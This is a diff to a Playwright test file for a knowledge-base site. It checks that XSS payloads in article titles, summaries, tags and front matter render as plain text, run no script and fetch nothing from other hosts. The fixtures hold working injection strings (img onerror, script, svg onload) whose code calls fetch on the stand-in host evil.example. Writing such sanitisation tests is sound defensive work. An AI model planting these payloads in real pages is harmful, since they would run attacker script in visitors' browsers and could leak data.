@@ -25,6 +25,7 @@ from tests.conftest import article
 # Each payload, if it ran, would call alert(), set window.__kbPwned or fetch evil.example.
 RUN = "window.__kbPwned=1;alert(1);fetch('http://evil.example/ran')"
 HOSTILE_TITLE = f'<img src=x onerror="{RUN}"></title><script>{RUN}</script>'
+HOSTILE_APPLIES_TO = f'cPanel <img src=x onerror="{RUN}"> & WHM'
 HOSTILE_BODY = f"""\
 Intro <img src=x alt=x onerror="{RUN}"> and <b onmouseover="{RUN}">hover</b>.
 
@@ -69,7 +70,10 @@ def hostile_site(make_site: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[st
                 HOSTILE_BODY,
                 summary=json.dumps(f'<svg/onload="{RUN}">'),
                 tags="email, " + json.dumps(f'<img src=x onerror="{RUN}">'),
-                extra_front="description: " + json.dumps(f'"><script>{RUN}</script>'),
+                extra_front="description: "
+                + json.dumps(f'"><script>{RUN}</script>')
+                + "\napplies_to: "
+                + json.dumps(HOSTILE_APPLIES_TO),
             ),
             "email/quota.md": article("Mailbox quota", "See [the other](hostile.md)."),
             "tags.md": "---\ntitle: Tags\n---\n\n# Tags\n\n<!-- material/tags -->\n",
@@ -110,7 +114,7 @@ def test_hostile_articles_run_nothing_and_fetch_nothing_from_other_hosts(
             r.abort()
 
     page.route("**/*", route)
-    for path in ("email/hostile/", "email/", "tags/", "", "email/quota/"):
+    for path in ("email/hostile/", "email/", "tags/", "", "email/quota/", "no-such-page/"):
         page.goto(f"{hostile_site}/{path}", wait_until="load")
         page.wait_for_timeout(300)
         page.mouse.move(200, 300)
@@ -125,6 +129,11 @@ def test_hostile_articles_run_nothing_and_fetch_nothing_from_other_hosts(
     # The title is shown as the text the author wrote, everywhere Material prints it.
     assert page.title() == f"{HOSTILE_TITLE} - Test KB"
     assert page.inner_text("article h1") == HOSTILE_TITLE
+    # ... and in the breadcrumb, the facts under the title and the section's sidebar.
+    assert page.inner_text(".kb-breadcrumb [aria-current=page]") == HOSTILE_TITLE
+    assert page.inner_text(".kb-facts").startswith(f"Applies to: {HOSTILE_APPLIES_TO}")
+    page.goto(f"{hostile_site}/email/quota/")
+    assert HOSTILE_TITLE in page.locator(".kb-section-nav").text_content()
 
 
 class _Elements(HTMLParser):
